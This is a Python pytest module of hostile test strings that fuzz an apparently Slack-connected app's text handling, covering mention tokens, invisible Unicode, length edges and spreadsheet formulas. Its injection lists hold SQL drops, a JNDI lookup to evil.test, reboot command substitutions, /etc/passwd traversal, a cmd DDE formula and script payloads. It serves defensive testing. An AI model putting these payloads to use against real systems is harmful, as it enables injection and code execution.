"""Hostile texts: they try to notify people, link, format, disguise, break or run something."""

import pytest

HOSTILE = {
    "channel": "<!channel>",
    "here": "<!here>",
    "everyone": "<!everyone|everyone>",
    "group": "<!subteam^S1|@ops>",
    "date": "<!date^1700000000^{date}^https://evil.test|now>",
    "person": "<@U1>",
    "named-person": "<@U1|mia>",
    "room": "<#C1|ops>",
    "link": "<https://evil.test|needle.slack.com>",
    "mail": "<mailto:a@evil.test|mail>",
    "script": "<script>alert(1)</script>",
    "half-open": "<!channel",
    "half-closed": "channel>",
    "nested": "<<!channel>>",
    "split": "<!chan\nnel>",
    "spaced": "< !channel >",
    "at-words": "@channel @here @everyone",
    "bare-link": "https://evil.test/?a=1&b=<2>",
    "markdown-link": "[needle](https://evil.test)",
    "bold": "*bold* _it_ ~out~",
    "code": "`code` ```block```",
    "unclosed": "``` `",
    "quoted": "> quoted\n>>> all of it",
    "bullets": "- one\n• two\n1. three",
    "emoji": ":fire: :+1::skin-tone-3:",
    "entity": "&lt;!channel&gt;",
    "entity-twice": "&amp;lt;!channel&amp;gt;",
    "numbered-entity": "&#60;!channel&#62;",
    "half-entity": "&lt &; &",
    "only-ampersands": "&" * 2000,
    "only-brackets": "<" * 2000,
    "mentions-all-through": "<!channel>" * 200,
    "zero-width": "<\u200b!channel\u200d>\ufeff\u2060",
    "override": "\u202egnp.exe\u202d <!channel>",
    "embedding": "\u202b\u202a <!here> \u202c",
    "isolate": "\u2066\u2067\u2068 <@U1>",
    "arabic": "\u200fانقل النسخ الاحتياطية <!channel>",
    "combining": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢ <!channel>",
    "four-bytes": "🧨👩‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿" * 20,
    "newlines": "one\ntwo\r\nthree\n\n\n<!channel>",
    "other-newlines": "one\u2028two\u2029three\x85four\x0bfive",
    "tabs": "\t\tcolumn\tcolumn",
    "control": "\x1b[31mred\x07\x08\x00\x7f\x9b2J",
    "backslashes": "\\<!channel\\> \\n \\u003c",
    "json": '"}], "type": "mrkdwn", "text": "<!channel>',
    "format": "%s %(x)s {0} {title} ${x} {{ x }}",
    "sql": "'); DROP TABLE project; --",
    "formula": "=cmd|' /C calc'!A0",
    "long": "A very long title, again and again. " * 100,
    "long-word": "x" * 3000,
}

# Texts without anything to see. They count as empty wherever someone must type something.
BLANK = ("\u200b" * 12, "\u3164" * 12, "\u2800" * 12, " \u00ad\u2060\ufeff" * 4, "\u200d\ufe0f" * 6)
# What no database stores, inside `Rotate keys`.
UNSTORABLE = ("Rota\x00te keys", "Rotate\ud83d keys", "Rotate \udca3keys\udfff")

# More of the same kinds: every control that Slack reads, everything unseen, every limit's edge.
COMMANDS = ("!channel", "!here", "!everyone", "!subteam^S1", "!date^1^{date}^https://evil.test|x")
TARGETS = ("@U1", "@W1|mia", "#C1", "#C1|ops", "https://evil.test", "mailto:a@b.test", "tel:+1|x")
UNSEEN = {
    "zero-width-space": "\u200b",
    "zero-width-joiner": "\u200d",
    "word-joiner": "\u2060",
    "byte-order-mark": "\ufeff",
    "soft-hyphen": "\u00ad",
    "combining-joiner": "\u034f",
    "left-to-right-mark": "\u200e",
    "right-to-left-mark": "\u200f",
    "arabic-letter-mark": "\u061c",
    "override": "\u202e",
    "embedding": "\u202b",
    "isolate": "\u2067",
    "variation": "\ufe0f",
    "tag": "\U000e0041",
    "filler": "\u3164",
    "annotation": "\ufff9",
    "replacement": "\ufffd",
    "private": "\ue000",
    "noncharacter": "\uffff",
    "last": "\U0010ffff",
}
LIMITS = (24, 75, 150, 500, 1000, 2000, 3000, 4000)  # of titles, options, fields and messages
MARK_LENGTH = len("Xyzzy ")
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("//evil.test")', "＝1")
INJECTED = (
    "' OR '1'='1",
    '"; DROP TABLE board; --',
    "1; ATTACH DATABASE 'x' AS y",
    "%n%n%n",
    "%(password)s",
    "{0.__class__.__mro__}",
    "${jndi:ldap://evil.test}",
    "{{7*7}}",
    "<%= 7*7 %>",
    "$(reboot)",
    "`reboot`",
    "| reboot",
    "../../etc/passwd",
    "\\\\evil\\share",
    "javascript:alert(1)",
    "data:text/html,<b>",
    "<img src=x onerror=alert(1)>",
    "]]>",
    "<!--",
    "&#x3c;!channel&#x3e;",
    "%3C!channel%3E",
    "\\u003c!channel\\u003e",
)
SHAPED = (
    "*bold across\nlines*",
    "_a_b_c_",
    "~gone~",
    "```\n<!channel>\n```",
    "`<!channel>`",
    ">>> <!here>",
    "# Heading",
    "| a | b |\n|---|---|",
    "[x]: https://evil.test",
    "![x](https://evil.test)",
    ":+1: :not_an_emoji: ::",
    "1.\n2.\n3.",
    "---",
    "\n\n\n",
    "a\r\rb",
    "a\x1cb\x1db\x1eb",
    "\u0665\u0666",
    "ﷺ" * 50,
    "ก็็็็็็็็็็็็็็็็็็็็",
    "👩🏽‍🚀" * 60,
    "🇩🇪" * 80,
    "𝕳𝖊𝖑𝖑𝖔",
    "ｗｉｄｅ",
    "ſtraße İıIi",
)


def _more() -> dict[str, str]:
    found: dict[str, str] = {}
    for inside in (*COMMANDS, *TARGETS):
        found |= {
            f"bare {inside}": f"<{inside}>",
            f"quoted {inside}": f'"<{inside}>"',
            f"escaped {inside}": f"&lt;{inside}&gt;",
            f"in a word {inside}": f"no<{inside}>thing",
        }
    for name, mark in UNSEEN.items():
        found[name] = f"{mark}<{mark}!channel{mark}>{mark}"
    for limit in LIMITS:
        for before in range(4):
            typed = limit - MARK_LENGTH - before
            found[f"an escape {before} before {limit}"] = "x" * typed + "&<>" * 40
        found[f"a pair of halves at {limit}"] = "x" * (limit - MARK_LENGTH - 1) + "🧨" * 20
    for kind, texts in (("formula", FORMULAS), ("injected", INJECTED), ("shaped", SHAPED)):
        found |= {f"{kind} {number}": text for number, text in enumerate(texts)}
    return found


MORE = _more()
EVERY = {**HOSTILE, **MORE}

# In the ordinary run the first of each kind; all of them in the long one.
hostile = pytest.mark.parametrize(
    "hostile",
    [
        *[pytest.param(text, id=name) for name, text in HOSTILE.items()],
        *[pytest.param(text, id=name, marks=pytest.mark.long) for name, text in MORE.items()],
    ],
)
